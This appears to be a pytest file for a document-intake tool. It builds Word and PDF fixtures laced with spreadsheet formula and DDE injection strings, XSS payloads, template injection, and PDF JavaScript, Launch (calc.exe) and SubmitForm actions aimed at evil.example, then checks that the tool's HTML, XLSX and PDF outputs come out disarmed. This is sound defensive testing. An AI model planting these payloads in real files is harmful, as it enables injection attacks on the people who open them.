"""No script and no formula of an applicant is alive in anything that an intake writes."""

from __future__ import annotations

import io
import os
from pathlib import Path

import docx
import openpyxl
import pypdf
import pytest
from lxml import html
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from tfdocs.jobs.intake.job import intake
from tfdocs.report.disarm import is_armed

TEXTS = (
    '=HYPERLINK("http://evil.example","20万元")',
    "+20+cmd|'/c calc'!A0",
    "@SUM(20) 不少于20篇",
    "-20万元，不少于20篇",
    "<script>alert(1)</script> 不少于20篇",
    '"><img src=x onerror=alert(1)> 20 篇',
    "</script></style><svg onload=alert(1)> 不少于30篇",
    "{{ 7*7 }}{% raw %} 论文不少于20篇",
    "javascript:alert(1) 不少于20次",
    "<a href='javascript:alert(1)'>20万元</a>",
)


NAMES = ("=1+1", "甲&lt;b&gt;" if os.name == "nt" else "甲<b onclick=alert(1)>")


def word_file(path: Path) -> None:
    document = docx.Document()
    for text in TEXTS:
        document.add_paragraph(text)
    table = document.add_table(2, 3)
    for cell, text in zip((c for row in table.rows for c in row.cells), TEXTS, strict=False):
        cell.text = text
    document.sections[0].header.paragraphs[0].text = TEXTS[4]
    document.core_properties.title = document.core_properties.author = TEXTS[4]
    document.add_comment(document.paragraphs[0].runs, text=TEXTS[4], author=TEXTS[5], initials="x")
    document.save(path)


def armed_pdf(path: Path, compressed: bool) -> None:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4, invariant=1, pageCompression=int(compressed))
    for number, text in enumerate(TEXTS):
        page.drawString(72, 760 - 30 * number, text.encode("ascii", "ignore").decode().replace("20", "28"))
    page.setTitle(TEXTS[4])
    page.setAuthor(TEXTS[5])
    page.acroForm.textfield(name="<script>", x=100, y=100, value="=1+1")
    page.save()
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(buffer.getvalue()))
    root = writer._root_object
    scripts = ArrayObject([TextStringObject("x"), _action("/JavaScript", JS="app.alert('alive')")])
    tree = DictionaryObject({NameObject("/Names"): scripts})
    root[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    root[NameObject("/OpenAction")] = _action("/Launch", F="calc.exe")
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _action("/JavaScript", JS="app.alert('alive')")})
    first = writer.pages[0]
    first[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/URI", URI="http://evil.example/alive")})
    note = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([pypdf.generic.FloatObject(n) for n in (0, 0, 600, 800)]),
        NameObject("/A"): _action("/SubmitForm", F="http://evil.example"),
    })  # fmt: skip
    first[NameObject("/Annots")] = ArrayObject([*first.get("/Annots", ()), writer._add_object(note)])
    writer.write(path)
    writer.close()


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("alive")
    for n, name in enumerate(NAMES):
        (folder / "in" / name).mkdir(parents=True)
        word_file(folder / "in" / name / "申报书.docx")
        armed_pdf(folder / "in" / name / "申报书.pdf", bool(n))
    (folder / "in" / "@SUM(1).docx").write_bytes(b"")
    found = intake(folder / "in", folder / "out", processes=1)
    assert found.count.pages == 2 and sum(bool(i.report) for i in found.lines) == 2, found.lines
    return folder / "out"


def test_pages_hold_no_script_but_our_own(result: Path) -> None:
    pages = list(result.rglob("*.html"))
    assert len(pages) == 3
    for page in pages:
        text = page.read_text(encoding="utf-8")
        root = html.fromstring(text)
        assert len(root.xpath("//script")) <= 2
        assert not root.xpath(
            "//script[contains(., 'alert')] | //svg[@onload] | //img[@onerror] | //@onclick | //iframe"
        )
        links = root.xpath("//@href | //@src")
        assert not [link for link in links if link.startswith(("javascript:", "http")) or "evil" in link]
        assert "default-src 'none'" in text


def test_workbooks_hold_no_formula(result: Path) -> None:
    books = list(result.rglob("*.xlsx"))
    assert len(books) == 4
    hostile = 0
    for path in books:
        book = openpyxl.load_workbook(path, rich_text=True)
        for sheet in book.worksheets:
            for cell in (c for row in sheet.iter_rows() for c in row if c.value is not None):
                assert cell.data_type != "f", (path.name, cell.coordinate)
                assert cell.hyperlink is None or "evil" not in (cell.hyperlink.target or "")
                hostile += str(cell.value).startswith(("=", "+", "@"))
        book.close()
    assert hostile  # otherwise this test looks at nothing


def test_the_marked_copy_runs_nothing(result: Path) -> None:
    copies = list(result.rglob("marked.pdf"))
    assert len(copies) == 2
    for path in copies:
        with pypdf.PdfReader(path) as reader:
            assert not is_armed(reader)
            assert len(reader.pages) == 1 and reader.pages[0].get("/Annots")
        data = path.read_bytes()
        assert b"alive" not in data and b"calc.exe" not in data and b"/SubmitForm" not in data


def test_what_turns_to_a_page_is_no_danger(tmp_path: Path) -> None:
    """LibreOffice puts such an action into every PDF; the copy then keeps the original's bytes."""
    page = canvas.Canvas(str(tmp_path / "a.pdf"), pagesize=A4)
    page.drawString(72, 72, "x")
    page.linkURL("http://example.org", (0, 0, 100, 100))
    page.save()
    writer = pypdf.PdfWriter(clone_from=tmp_path / "a.pdf")
    writer.open_destination = writer.pages[0]
    writer.write(tmp_path / "b.pdf")
    writer.close()
    with pypdf.PdfReader(tmp_path / "b.pdf") as reader:
        assert "/OpenAction" in reader.trailer["/Root"] and not is_armed(reader)
